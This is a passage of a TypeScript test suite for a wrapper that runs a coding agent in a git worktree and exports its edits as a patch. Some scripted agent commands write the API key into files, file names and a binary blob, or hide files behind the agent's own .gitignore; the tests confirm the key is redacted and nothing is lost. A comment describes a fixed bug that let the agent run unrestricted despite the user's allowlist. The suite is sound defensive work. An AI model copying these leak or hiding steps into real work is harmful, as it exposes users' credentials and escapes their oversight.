      message: `could not write the patch ${patch}: it was ended within 2s of the timeout; ${kept}`,
    });
    expect(existsSync(patch)).toBe(false);
    expect(await waitForGone(add30s)).toBe(true);
    expect(result.worktree.kept).toBe(true);
    expect(readFileSync(join(result.worktree.path, 'src/b.ts'), 'utf8')).toBe('b\n');
    rmSync(dirname(result.worktree.path), { recursive: true, force: true });
    expect(repoState(repo)).toEqual(before);
  });
});

describe('--worktree --patch: nothing the agent did is lost (found by review)', () => {
  type Kept = {
    patch: string | null;
    changes: Record<string, string[]>;
    worktree: { path: string; kept: boolean };
    error?: { code: string; message: string };
  };
  const warning = (events: Array<Record<string, unknown>>, code: string) =>
    events.find((e) => e.type === 'warning' && e.code === code)?.message as string | undefined;

  it('a repository the agent makes is left out of the patch and named, the rest applies, and the worktree is kept', async () => {
    const repo = userRepo();
    const { r, patch } = await shellInWorktree(
      repo,
      'echo fixed >> src/a.ts; mkdir sub2 && cd sub2 && git init -q && echo x > f.txt && cd .. && ' +
        'mkdir sub3 && cd sub3 && git init -q && echo y > g && git add g && git -c user.email=a@b -c user.name=a commit -qm i',
    );
    expect(r.exitCode, r.stderr).toBe(0);
    const result = resultOf(r.events) as Kept;
    expect(result.patch).toBe(patch);
    expect(result.changes.added).toEqual(expect.arrayContaining(['sub2/.git/', 'sub2/f.txt', 'sub3/.git/']));
    const text = readFileSync(patch, 'utf8');
    expect(text).toContain('+fixed');
    expect(text).not.toMatch(/sub2|sub3/);
    const said = warning(r.events, 'patch-incomplete')!;
    expect(said).toContain('sub2/, sub3/');
    expect(said).toContain(`the worktree is kept at ${result.worktree.path}`);
    expect(result.worktree.kept).toBe(true);
    expect(readFileSync(join(result.worktree.path, 'sub2', 'f.txt'), 'utf8')).toBe('x\n');
    git(repo, 'apply', patch);
    expect(readFileSync(join(repo, 'src/a.ts'), 'utf8')).toBe('export const a = 1;\nfixed\n');
    rmSync(dirname(result.worktree.path), { recursive: true, force: true });
  });

  it('a path git refuses (a .GIT folder) is left out and named, the rest is in the patch, the worktree kept', async () => {
    const repo = userRepo();
    const { r, patch } = await shellInWorktree(
      repo,
      'echo fixed >> src/a.ts; mkdir -p d/.GIT && echo x > d/.GIT/x',
    );
    expect(r.exitCode, r.stderr).toBe(0);
    const result = resultOf(r.events) as Kept;
    expect(readFileSync(patch, 'utf8')).toContain('+fixed');
    expect(warning(r.events, 'patch-incomplete')).toContain('d/.GIT/x');
    expect(existsSync(join(result.worktree.path, 'd', '.GIT', 'x'))).toBe(true);
    rmSync(dirname(result.worktree.path), { recursive: true, force: true });
  });

  it("a change git undoes as it adds (the agent's own .gitattributes over a CRLF rewrite) is named, and the worktree kept", async () => {
    const repo = userRepo();
    const { r, patch } = await shellInWorktree(
      repo,
      "printf 'src/a.ts text\\n' > .gitattributes; printf 'export const a = 1;\\r\\n' > src/a.ts; echo b > src/b.ts",
    );
    expect(r.exitCode, r.stderr).toBe(0);
    const result = resultOf(r.events) as Kept;
    // The ledger sees the bytes change; `git add` normalises them back to the start's blob.
    expect(result.changes).toMatchObject({ added: ['.gitattributes'], modified: ['src/a.ts', 'src/b.ts'] });
    const text = readFileSync(patch, 'utf8');
    expect(text).toContain('src/b.ts');
    expect(text).not.toContain('a/src/a.ts');
    // Was: no warning, and the worktree removed with the only copy of the change.
    const said = warning(r.events, 'patch-incomplete')!;
    expect(said).toContain('src/a.ts');
    expect(said).not.toContain('src/b.ts');
    expect(result.worktree.kept).toBe(true);
    expect(readFileSync(join(result.worktree.path, 'src/a.ts'), 'utf8')).toBe('export const a = 1;\r\n');
    rmSync(dirname(result.worktree.path), { recursive: true, force: true });
  });

  it('a file the agent writes into a submodule folder (never checked out in the worktree) is named, and the worktree kept', async () => {
    const repo = repoWithSubmodule();
    const { r, patch } = await shellInWorktree(
      repo,
      'mkdir -p vendor/lib && echo impl > vendor/lib/impl.c; echo fixed >> src/a.ts',
    );
    expect(r.exitCode, r.stderr).toBe(0);
    const result = resultOf(r.events) as Kept;
    const text = readFileSync(patch, 'utf8');
    expect(text).toContain('+fixed');
    expect(text).not.toContain('impl');
    // Was: no warning, and the worktree removed with vendor/lib/impl.c in it.
    expect(warning(r.events, 'patch-incomplete')).toContain('vendor/lib/');
    expect(result.worktree.kept).toBe(true);
    expect(readFileSync(join(result.worktree.path, 'vendor/lib/impl.c'), 'utf8')).toBe('impl\n');
    rmSync(dirname(result.worktree.path), { recursive: true, force: true });
  });

  it('a patch that cannot be written keeps the worktree and says where', async () => {
    const repo = userRepo();
    // Its folder is there at the start (a missing one is exit 2 before anything), and gone by the end.
    const folder = join(tempDir(), 'no');
    mkdirSync(folder);
    const patch = join(folder, 'fix.diff');
    const r = await finish(
      await start(['run', ...SJ, '--worktree', '--patch', patch, 'go'], repo, {
        before: [effect({ sh: `echo fixed >> src/a.ts; rm -r '${folder}'` }), chunk('done')],
      }),
      true,
    );
    expect(r.exitCode, r.stderr).toBe(1);
    const result = resultOf(r.events) as Kept;
    expect(result.error?.code).toBe('write_failed');
    expect(result.error?.message).toContain(`the worktree is kept at ${result.worktree.path}`);
    expect(result.worktree.kept).toBe(true);
    expect(readFileSync(join(result.worktree.path, 'src/a.ts'), 'utf8')).toBe('export const a = 1;\nfixed\n');
    rmSync(dirname(result.worktree.path), { recursive: true, force: true });
  });

  it('files the agent hides with its own .gitignore are in the patch, as in changes', async () => {
    const repo = userRepo();
    const { r, patch } = await shellInWorktree(
      repo,
      "printf 'hidden.txt\\nhidden/\\n' > .gitignore; echo payload > hidden.txt; echo '*' > src/.gitignore; " +
        'echo n > src/new.ts; mkdir -p hidden/node_modules && echo m > hidden/node_modules/a.js',
    );
    expect(r.exitCode, r.stderr).toBe(0);
    const result = resultOf(r.events) as Kept;
    expect(result.changes).toMatchObject({
      added: ['hidden.txt', 'hidden/node_modules/', 'src/.gitignore', 'src/new.ts'],
      modified: ['.gitignore'],
    });
    expect(warning(r.events, 'patch-incomplete')).toBeUndefined();
    expect(result.worktree.kept).toBe(false);
    git(repo, 'apply', patch);
    expect(readFileSync(join(repo, 'hidden.txt'), 'utf8')).toBe('payload\n');
    expect(readFileSync(join(repo, 'src/new.ts'), 'utf8')).toBe('n\n');
    expect(readFileSync(join(repo, 'src/.gitignore'), 'utf8')).toBe('*\n');
    expect(readFileSync(join(repo, 'hidden/node_modules/a.js'), 'utf8')).toBe('m\n');
  });

  it('a file your own ignore rules ignore stays out of both changes and the patch', async () => {
    const repo = userRepo();
    const { r, patch } = await shellInWorktree(repo, 'echo build > ignored.log; echo b > src/b.ts');
    expect(r.exitCode, r.stderr).toBe(0);
    expect((resultOf(r.events) as Kept).changes).toMatchObject({ added: [], modified: ['src/b.ts'] });
    const text = readFileSync(patch, 'utf8');
    expect(text).toContain('src/b.ts');
    expect(text).not.toContain('ignored.log');
  });
});

describe('--worktree --patch: the key is never written into the patch (found by review)', () => {
  it('in a file the agent writes (text or binary) or in its name: masked, said, and the rest applies', async () => {
    const repo = userRepo();
    const key = 'sk-test-0123456789abcdef';
    const patch = join(tempDir(), 'fix.diff');
    const sh =
      'echo "token=$CURSOR_API_KEY" >> src/a.ts; echo x > "k-$CURSOR_API_KEY.txt"; ' +
      'printf "bin\\000$CURSOR_API_KEY\\000end" > blob.bin; echo b > src/b.ts';
    const r = await finish(
      startCli(['run', ...SJ, '--worktree', '--patch', patch, 'go'], {
        agent: await agentPath,
        cwd: repo,
        cliConfig: { approvalMode: 'allowlist' },
        env: { CURSOR_API_KEY: key, RHO_SCRIPT: JSON.stringify({ before: [effect({ sh }), chunk('done')] }) },
      }),
      true,
    );
    expect(r.exitCode, r.stderr).toBe(0);
    const bytes = readFileSync(patch);
    expect(bytes.includes(key)).toBe(false);
    const said = r.events.find((e) => e.type === 'warning' && e.code === 'patch-redacted');
    expect(said?.message).toContain('[redacted]');
    git(repo, 'apply', patch);
    expect(readFileSync(join(repo, 'src/a.ts'), 'utf8')).toBe('export const a = 1;\ntoken=[redacted]\n');
    expect(readFileSync(join(repo, 'k-[redacted].txt'), 'utf8')).toBe('x\n');
    expect(readFileSync(join(repo, 'blob.bin'))).toEqual(Buffer.from('bin\0[redacted]\0end'));
    expect(readFileSync(join(repo, 'src/b.ts'), 'utf8')).toBe('b\n');
    expect(r.stdout.includes(key) || r.stderr.includes(key)).toBe(false);
  });
});

// Found by review: a relative CURSOR_CONFIG_DIR names another directory in the worktree, most often none: the
// agent ran under Cursor's default (unrestricted) while rho-cursor judged the user's allowlist.
it('--worktree with a relative CURSOR_CONFIG_DIR: the agent is given the directory rho-cursor read', async () => {
  const repo = userRepo();
  mkdirSync(join(repo, 'cfgrel'));
  writeFileSync(join(repo, 'cfgrel', 'cli-config.json'), '{"approvalMode":"allowlist"}');
  writeFileSync(join(repo, '.git', 'info', 'exclude'), 'cfgrel/\n');
  const configLog = join(tempDir(), 'config.json');
  const r = await finish(
    startCli(['run', ...SJ, '--worktree', 'go'], {
      agent: await agentPath,
      cwd: repo,
      env: {
        CURSOR_CONFIG_DIR: 'cfgrel',
        RHO_SCRIPT: JSON.stringify({ configLog, before: [chunk('done')] }),
      },
    }),
    true,
  );
  expect(r.exitCode, r.stderr).toBe(0);
  expect(r.events.find((e) => e.type === 'session')).toMatchObject({ approvalMode: 'allowlist' });
  expect(JSON.parse(readFileSync(configLog, 'utf8'))).toEqual({
    dir: join(repo, 'cfgrel'),
    config: { approvalMode: 'allowlist' },
  });
});
